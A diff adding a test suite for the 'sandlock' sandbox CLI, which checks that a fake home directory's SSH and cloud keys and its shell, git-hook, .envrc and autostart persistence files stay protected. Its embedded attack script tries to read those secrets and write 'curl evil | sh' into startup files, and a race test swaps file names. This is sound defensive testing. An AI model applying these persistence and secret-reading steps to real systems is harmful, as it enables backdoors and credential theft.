@@ -1,0 +1,406 @@
+"""The user's own toolchain runs under `run`/`net-run`, and the user's secrets and
+persistence vectors are protected under any grant (issue: agent-ready defaults).
+
+A fake HOME as a developer has it: a pyenv-style shim tree, an nvm-style node, a uv
+Python reached through ~/.local/bin, ~/.gitconfig, ~/.bashrc, SSH and cloud keys, and a
+repository with .git/hooks. Everything runs through the real CLI, in both protection
+modes ("mounts": a mount namespace of the sandbox's own; "landlock": where none can be
+made, as in a container).
+"""
+
+import hashlib
+import http.server
+import os
+import shutil
+import stat
+import subprocess
+import sys
+import threading
+
+import pytest
+
+SANDLOCK = [sys.executable, "-m", "sandlock"]
+PYTHON = os.path.realpath(shutil.which("python3", path="/usr/bin:/bin"))
+NODE = shutil.which("node", path="/usr/bin:/bin")
+MODES = ["mounts", "landlock"]
+
+
+def _place(src: str, dst) -> None:
+    """A real executable in the tree (a hard link when the filesystem allows it)."""
+    dst.parent.mkdir(parents=True, exist_ok=True)
+    try:
+        os.link(src, dst)
+    except OSError:
+        shutil.copy2(src, dst)
+
+
+def _script(path, text: str) -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+    path.chmod(0o755)
+
+
+@pytest.fixture(scope="module")
+def toolchains(tmp_path_factory):
+    """Interpreters installed the way version managers install them (shared, read-only)."""
+    root = tmp_path_factory.mktemp("toolchains")
+    os.chmod(root, 0o755)
+    return root
+
+
+def _make_home(base, toolchains):
+    h = base / "home"
+    # pyenv: a shim (bash, through env) -> pyenv's dispatcher -> the versioned binary.
+    _place(PYTHON, h / ".pyenv/versions/3.11.0/bin/python3")
+    (h / ".pyenv/version").write_text("3.11.0\n")
+    _script(h / ".pyenv/libexec/pyenv",
+            '#!/usr/bin/env bash\nset -e\n[ "$1" = exec ] || exit 2\nshift\n'
+            'prog="$1"; shift\n'
+            'exec "$PYENV_ROOT/versions/$(cat "$PYENV_ROOT/version")/bin/$prog" "$@"\n')
+    _script(h / ".pyenv/shims/python3",
+            '#!/usr/bin/env bash\nset -e\nexport PYENV_ROOT="${PYENV_ROOT:-$HOME/.pyenv}"\n'
+            'exec "$PYENV_ROOT/libexec/pyenv" exec "${0##*/}" "$@"\n')
+    # nvm: ~/.nvm/versions/node/vX/bin/node.
+    if NODE:
+        _place(os.path.realpath(NODE), h / ".nvm/versions/node/v20.11.0/bin/node")
+    # uv: a managed Python, linked from ~/.local/bin.
+    uv_bin = h / ".local/share/uv/python/cpython-3.11.0-linux-x86_64-gnu/bin"
+    _place(PYTHON, uv_bin / "python3.11")
+    (h / ".local/bin").mkdir(parents=True)
+    os.symlink(uv_bin / "python3.11", h / ".local/bin/python3.11")
+    # Configuration, startup files, secrets.
+    (h / ".gitconfig").write_text("[user]\n\tname = Fake User\n\temail = fake@example.com\n"
+                                  "[init]\n\tdefaultBranch = main\n")
+    (h / ".bashrc").write_text("# the user's bashrc\n")
+    (h / ".profile").write_text("# the user's profile\n")
+    (h / ".ssh").mkdir()
+    (h / ".ssh/id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
+    (h / ".ssh/authorized_keys").write_text("ssh-ed25519 AAAA user\n")
+    (h / ".aws").mkdir()
+    (h / ".aws/credentials").write_text("[default]\naws_secret_access_key = fake\n")
+    (h / ".netrc").write_text("machine example.com password fake\n")
+    (h / ".bash_history").write_text("export TOKEN=fake\n")
+    proj = h / "proj"
+    proj.mkdir()
+    subprocess.run(["git", "init", "-q", str(proj)], check=True,
+                   env=dict(os.environ, HOME=str(h)))
+    (proj / "README").write_text("readme\n")
+    for dirpath, dirnames, filenames in os.walk(h):
+        for name in dirnames + filenames:
+            p = os.path.join(dirpath, name)
+            if not os.path.islink(p) and os.stat(p).st_uid == os.geteuid():
+                os.chmod(p, os.stat(p).st_mode | 0o777 if os.path.isdir(p)
+                         else os.stat(p).st_mode | 0o666)
+    os.chmod(h, 0o777)
+    os.chmod(base, 0o777)
+    return h
+
+
+@pytest.fixture
+def home(tmp_path, toolchains):
+    return _make_home(tmp_path, toolchains)
+
+
+def _env(h, mode="mounts", extra_path=""):
+    path = f"{h}/.pyenv/shims:{h}/.nvm/versions/node/v20.11.0/bin:{h}/.local/bin:" \
+           f"{extra_path}/usr/local/bin:/usr/bin:/bin"
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYENV", "NVM"))}
+    env.update(HOME=str(h), PATH=path, SANDLOCK_TEST_PROTECT_MODE=mode,
+               XDG_STATE_HOME=str(h.parent / "state"))
+    return env
+
+
+def cli(h, *args, mode="mounts", cwd=None, **kw):
+    return subprocess.run(SANDLOCK + list(args), capture_output=True, text=True,
+                          env=_env(h, mode), cwd=cwd or h / "proj", timeout=120, **kw)
+
+
+class _Server:
+    """An HTTP server on 127.0.0.2 serving a directory."""
+
+    def __init__(self, directory):
+        handler = lambda *a, **kw: http.server.SimpleHTTPRequestHandler(  # noqa: E731
+            *a, directory=str(directory), **kw)
+        http.server.SimpleHTTPRequestHandler.log_message = lambda *a: None
+        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.2", 0), handler)
+        self.port = self.httpd.server_address[1]
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
+@pytest.fixture
+def served(tmp_path):
+    site = tmp_path / "site"
+    site.mkdir()
+    (site / "hello.txt").write_text("hello from loopback\n")
+    srv = _Server(site)
+    yield site, srv
+    srv.close()
+
+
+FETCH_PY = "import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1]).read().decode().strip())"
+FETCH_JS = ("require('http').get(process.argv[1], r => { let b=''; r.on('data', d => b += d); "
+            "r.on('end', () => console.log(b.trim())); })")
+
+
+# --- the user's toolchain ----------------------------------------------------------------
+
+@pytest.mark.parametrize("mode", MODES)
+def test_version_managed_interpreters_run_under_net_run_with_no_flags(home, served, mode):
+    site, srv = served
+    url = f"http://127.0.0.2:{srv.port}/hello.txt"
+    allow = ("--allow", f"127.0.0.2:{srv.port}")
+    programs = [("python3", "-c", FETCH_PY, url), ("python3.11", "-c", FETCH_PY, url)]
+    if NODE:
+        programs.append(("node", "-e", FETCH_JS, url))
+    for prog in programs:
+        r = cli(home, "net-run", *allow, "--", *prog, mode=mode)
+        assert r.returncode == 0 and r.stdout == "hello from loopback\n", (prog[0], r.stderr)
+    # The control: with --strict (system directories only) the pyenv shim cannot even start.
+    r = cli(home, "net-run", "--strict", *allow, "--", "python3", "-c", FETCH_PY, url,
+            mode=mode)
+    assert r.returncode == 126 and "Permission denied" in r.stderr, r.stderr
+
+
+def test_verbose_prints_every_toolchain_grant_and_why(home):
+    r = cli(home, "run", "-v", "--", "python3", "-c", "print('ok')")
+    assert r.returncode == 0 and r.stdout == "ok\n", r.stderr
+    assert f"read {home}/.pyenv (" in r.stderr and "pyenv" in r.stderr
+    assert f"read {home}/.gitconfig (per-user configuration" in r.stderr
+    assert ".ssh" not in "".join(line for line in r.stderr.splitlines()
+                                 if line.startswith("sandlock: read"))
+    r = cli(home, "run", "-v", "--strict", "--", "true")
+    assert "sandlock: read " not in r.stderr
+
+
+def test_toolchain_grants_never_include_secrets_or_write(home):
+    from sandlock import toolchain_grants
+    env = _env(home)
+    env["PATH"] = f"{home}/.ssh:{home}:" + env["PATH"]  # hostile PATH entries
+    grants = toolchain_grants("python3", env, str(home / "proj"))
+    paths = [g.path for g in grants]
+    assert f"{home}/.pyenv" in paths
+    assert not any(p == str(home) or p.startswith(f"{home}/.ssh") for p in paths), paths
+    assert all(g.why for g in grants)
+
+
+def test_git_clone_over_http_reads_the_users_gitconfig_under_net_run(home, tmp_path):
+    src = tmp_path / "src"
+    env = dict(os.environ, HOME=str(home))
+    subprocess.run(["git", "init", "-q", "--bare", str(tmp_path / "site/repo.git")],
+                   check=True, env=env)
+    subprocess.run(["git", "clone", "-q", str(tmp_path / "site/repo.git"), str(src)],
+                   check=True, env=env, capture_output=True)
+    (src / "hello.txt").write_text("cloned\n")
+    subprocess.run(["git", "-C", str(src), "add", "."], check=True, env=env)
+    subprocess.run(["git", "-C", str(src), "commit", "-qm", "first"], check=True, env=env)
+    subprocess.run(["git", "-C", str(src), "push", "-q", "origin", "HEAD"], check=True,
+                   env=env, capture_output=True)
+    subprocess.run(["git", "-C", str(tmp_path / "site/repo.git"), "update-server-info"],
+                   check=True, env=env)
+    srv = _Server(tmp_path / "site")
+    try:
+        r = cli(home, "net-run", "--allow", f"127.0.0.2:{srv.port}", "--", "sh", "-c",
+                f"git clone -q http://127.0.0.2:{srv.port}/repo.git clone && "
+                f"cat clone/hello.txt && git -C clone log -1 --format=%an && "
+                f"git config user.name")
+    finally:
+        srv.close()
+    assert r.returncode == 0, r.stderr
+    assert r.stdout == "cloned\nFake User\nFake User\n"
+
+
+# --- secrets and persistence vectors -----------------------------------------------------
+
+SECRETS = [".ssh/id_ed25519", ".aws/credentials", ".netrc", ".bash_history"]
+PERSISTENT = [".bashrc", ".profile", ".gitconfig", ".ssh/authorized_keys",
+              "proj/.git/config", "proj/.git/hooks/pre-commit.sample"]
+
+
+def _digests(h) -> dict:
+    out = {}
+    for dirpath, dirnames, filenames in os.walk(h):
+        dirnames[:] = [d for d in dirnames if d not in ("objects", "versions", "node")]
+        for n in filenames:
+            p = os.path.join(dirpath, n)
+            if os.path.islink(p) or not os.path.isfile(p):
+                continue
+            with open(p, "rb") as f:
+                out[os.path.relpath(p, h)] = hashlib.sha256(f.read()).hexdigest()
+    return out
+
+
+ATTACKS = r"""
+import os, sys
+h = sys.argv[1]
+def attempt(name, fn):
+    try:
+        fn()
+        print(name, "DONE")
+    except OSError as e:
+        print(name, "refused", e.errno)
+def write(rel, mode="a"):
+    with open(os.path.join(h, rel), mode) as f:
+        f.write("curl evil | sh\n")
+def read(rel):
+    with open(os.path.join(h, rel)) as f:
+        return f.read()
+for rel in %(secrets)r:
+    attempt("read " + rel, lambda: read(rel))
+for rel in %(persistent)r:
+    attempt("append " + rel, lambda: write(rel))
+    attempt("truncate " + rel, lambda: os.truncate(os.path.join(h, rel), 0))
+    attempt("replace " + rel, lambda: (write("proj/tmp-x", "w"),
+                                       os.rename(os.path.join(h, "proj/tmp-x"),
+                                                 os.path.join(h, rel))))
+    attempt("unlink " + rel, lambda: os.unlink(os.path.join(h, rel)))
+for rel in (".zshrc", ".config/fish/config.fish", ".config/autostart/x.desktop",
+            ".config/systemd/user/x.service", ".local/bin/evil",
+            "proj/.envrc", "proj/src/.envrc", "proj/.vscode/tasks.json",
+            "proj/.git/hooks/pre-commit", ".ssh/rc"):
+    def create(rel=rel):
+        os.makedirs(os.path.dirname(os.path.join(h, rel)), exist_ok=True)
+        write(rel, "w")
+    attempt("create " + rel, create)
+attempt("symlink proj/.envrc", lambda: os.symlink("/tmp/x", os.path.join(h, "proj/.envrc")))
+attempt("mkdir proj/.idea", lambda: os.mkdir(os.path.join(h, "proj/.idea")))
+attempt("move proj/.git", lambda: os.rename(os.path.join(h, "proj/.git"),
+                                            os.path.join(h, "proj/old-git")))
+attempt("link bashrc", lambda: os.link(os.path.join(h, ".bashrc"), os.path.join(h, "b")))
+# ordinary work in the same directories
+attempt("home create notes", lambda: write("notes.txt", "w"))
+attempt("ok create notes", lambda: write("proj/notes.txt", "w"))
+attempt("ok edit notes", lambda: (write("proj/notes.txt", "a"), read("proj/notes.txt")))
+attempt("ok create src", lambda: (os.makedirs(os.path.join(h, "proj/src"), exist_ok=True),
+                                  write("proj/src/app.py", "w")))
+attempt("ok edit readme", lambda: write("proj/README", "a"))
+attempt("ok rename", lambda: os.rename(os.path.join(h, "proj/src/app.py"),
+                                       os.path.join(h, "proj/src/main.py")))
+attempt("ok read bashrc", lambda: read(".bashrc"))
+"""
+
+
+@pytest.mark.parametrize("mode", MODES)
+def test_secrets_and_persistence_vectors_are_refused_under_rw_home(home, mode):
+    before = _digests(home)
+    code = ATTACKS % {"secrets": SECRETS, "persistent": PERSISTENT}
+    r = cli(home, "run", "-v", "-r", str(home), "-w", str(home), "--", "/usr/bin/python3",
+            "-c", code, str(home), mode=mode)
+    assert r.returncode == 0, r.stderr
+    # Landlock's limit where no mount namespace can be made (documented, and said): the
+    # home directory, on the way to the secrets it hides, accepts no new entries.
+    limit = f"{home} accept(s) no new entries"
+    assert (limit in r.stderr) == (mode == "landlock"), r.stderr
+    lines = {}
+    for line in r.stdout.splitlines():
+        what, _, outcome = line.partition(" refused ") if " refused " in line else \
+            (line.removesuffix(" DONE"), "", "DONE")
+        lines[what] = outcome
+    for what, outcome in lines.items():
+        if what.startswith("ok ") or (what == "home create notes" and mode == "mounts"):
+            assert outcome == "DONE", (what, r.stdout)
+        else:
+            assert outcome != "DONE", (what, r.stdout)
+    assert len(lines) == len(SECRETS) + 4 * len(PERSISTENT) + 10 + 4 + 7
+    after = _digests(home)
+    for rel in SECRETS + PERSISTENT:
+        assert after.get(rel) == before[rel], rel  # unchanged
+    for rel in (".zshrc", "proj/.envrc", "proj/src/.envrc", "proj/.git/hooks/pre-commit",
+                "proj/.vscode", "proj/.idea", ".config/autostart/x.desktop", "b"):
+        assert not os.path.lexists(home / rel), rel
+    assert (home / "proj/src/main.py").exists() and (home / "proj/notes.txt").exists()
+    assert (home / "proj/README").read_text().endswith("curl evil | sh\n")
+
+
+def test_run_denies_a_secret_under_a_read_grant_unless_the_user_names_it(home):
+    key = home / ".ssh/id_ed25519"
+    r = cli(home, "run", "-r", str(home), "--", "cat", str(key))
+    assert r.returncode == 1 and "Permission denied" in r.stderr and r.stdout == ""
+    r = cli(home, "run", "-r", str(home), "--", "cat", str(home / "proj/README"))
+    assert r.returncode == 0 and r.stdout == "readme\n"  # the control
+    r = cli(home, "run", "-r", str(key), "--", "cat", str(key))  # named: the user's choice
+    assert r.returncode == 0 and "PRIVATE KEY" in r.stdout, r.stderr
+
+
+def test_net_run_in_home_does_not_make_it_writable(home):
+    r = cli(home, "net-run", "--", "sh", "-c", "echo x > f", cwd=home)
+    assert r.returncode != 0 and not (home / "f").exists()
+    assert "net-run does not make it writable (pass -w" in r.stderr
+    r = cli(home, "net-run", "-w", str(home), "--", "sh", "-c", "echo x > f", cwd=home)
+    assert r.returncode == 0 and (home / "f").read_text() == "x\n", r.stderr
+    r = cli(home, "net-run", "--", "sh", "-c", "echo x > f")  # in a project: writable
+    assert r.returncode == 0 and (home / "proj/f").exists(), r.stderr
+
+
+def test_a_swapped_name_never_creates_a_protected_file(home):
+    """The guard decides on its own copy of the path and acts on it: a thread rewriting
+    the name between the supervisor's read and the kernel's never creates .envrc."""
+    code = r"""
+import ctypes, os, sys, threading
+libc = ctypes.CDLL(None, use_errno=True)
+proj = sys.argv[1]
+buf = ctypes.create_string_buffer(4096)
+ok, bad = (proj + "/.envrc-ok").encode(), (proj + "/.envrc").encode()
+stop = False
+def flip():
+    while not stop:
+        ctypes.memmove(buf, bad, len(bad) + 1)
+        ctypes.memmove(buf, ok, len(ok) + 1)
+t = threading.Thread(target=flip); t.start()
+made = 0
+for i in range(3000):
+    fd = libc.open(buf, os.O_CREAT | os.O_WRONLY | os.O_CLOEXEC, 0o644)
+    if fd >= 0:
+        made += 1
+        os.close(fd)
+    try:
+        os.unlink(proj + "/.envrc-ok")
+    except OSError:
+        pass
+stop = True; t.join()
+print(made)
+"""
+    r = cli(home, "run", "-w", str(home / "proj"), "--", "/usr/bin/python3", "-c", code,
+            str(home / "proj"))
+    assert r.returncode == 0, r.stderr
+    assert int(r.stdout) > 0  # the ordinary name was created (the control)
+    assert not os.path.lexists(home / "proj/.envrc")
+
+
+@pytest.mark.parametrize("backend", ["overlay", "seccomp"])
+def test_a_workspace_commit_never_applies_protected_files(home, backend):
+    from sandlock import Sandbox, system_devices, system_readable
+    proj = home / "proj"
+    sb = Sandbox(fs_readable=system_readable(), fs_writable=system_devices(),
+                 workdir=str(proj), workspace_backend=backend, protect_user_files=True,
+                 fs_storage=str(home.parent / "store"), env={"HOME": str(home)},
+                 cwd=str(proj))
+    r = sb.run(["sh", "-c", "echo hook > .git/hooks/pre-push; echo x >> .git/config; "
+                            "echo e > .envrc; echo ok > ok.txt; exit 0"])
+    assert r.success, r.stderr
+    assert (proj / "ok.txt").read_text() == "ok\n"  # ordinary changes are applied
+    assert not (proj / ".git/hooks/pre-push").exists()
+    assert not (proj / ".envrc").exists()
+    assert "x" not in (proj / ".git/config").read_text().splitlines()
+
+
+def test_yaml_policies_protect_by_default_and_can_opt_out(home, tmp_path):
+    key = home / ".ssh/id_ed25519"
+    pol = tmp_path / "p.yaml"
+    pol.write_text(f"version: 1\nfilesystem:\n  read: [{home}]\n")
+    r = cli(home, "run", "--policy", str(pol), "--", "cat", str(key))
+    assert r.returncode == 1 and r.stdout == ""
+    pol.write_text(f"version: 1\nfilesystem:\n  read: [{home}]\n  protect: false\n")
+    r = cli(home, "run", "--policy", str(pol), "--", "cat", str(key))
+    assert r.returncode == 0 and "PRIVATE KEY" in r.stdout, r.stderr
+
+
+def test_the_api_exposes_the_lists(home):
+    from sandlock import persistence_paths, secret_paths
+    secrets = secret_paths(str(home))
+    assert f"{home}/.ssh" in secrets and f"{home}/.aws" in secrets
+    assert f"{home}/.docker/config.json" in secrets and f"{home}/.git-credentials" in secrets
+    assert f"{home}/.bashrc" in persistence_paths(str(home))
